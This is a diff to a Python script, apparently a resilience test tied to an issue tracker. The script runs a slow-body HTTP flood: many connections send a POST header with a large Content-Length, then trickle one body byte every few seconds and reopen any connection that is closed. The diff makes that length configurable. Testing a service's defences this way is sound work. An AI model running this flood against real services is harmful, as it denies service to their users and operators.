@@ -1,6 +1,8 @@
-# A slow-body flood (issue 30): `python3 slow_bodies.py HOST PORT PATH TOKEN CONNECTIONS SECONDS`
-# opens CONNECTIONS connections to HOST:PORT, each sending the head of a POST to PATH (with
-# `Authorization: Bearer TOKEN` unless TOKEN is "-", and a Content-Length of 1,000,000) and then
+# A slow-body flood (issue 30):
+# `python3 slow_bodies.py HOST PORT PATH TOKEN CONNECTIONS SECONDS [LENGTH]` opens CONNECTIONS
+# connections to HOST:PORT, each sending the head of a POST to PATH (with
+# `Authorization: Bearer TOKEN` unless TOKEN is "-", and a Content-Length of LENGTH, default
+# 1,000,000: a length within the service's limit makes it wait for the body) and then
 # one body byte every 4 s, for SECONDS in all. A connection the server closes is opened again
 # (the attack keeps its count). At the end it prints one JSON line: how many connections were
 # opened, refused at connect, answered (by status), closed without an answer, still open.
@@ -13,6 +15,7 @@ resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
 
 HOST, PORT, PATH, TOKEN = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
 CONNECTIONS, SECONDS = int(sys.argv[5]), float(sys.argv[6])
+LENGTH = int(sys.argv[7]) if len(sys.argv) > 7 else 1_000_000
 stats = {"opened": 0, "refused": 0, "answered": {}, "closed": 0, "open_at_end": 0}
 end = time.monotonic() + SECONDS
 
@@ -20,7 +23,7 @@ end = time.monotonic() + SECONDS
 def head():
     auth = "" if TOKEN == "-" else f"Authorization: Bearer {TOKEN}\r\n"
     return (f"POST {PATH} HTTP/1.1\r\nHost: {HOST}\r\n{auth}"
-            "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n").encode()
+            f"Content-Type: application/json\r\nContent-Length: {LENGTH}\r\n\r\n").encode()
 
 
 async def one():
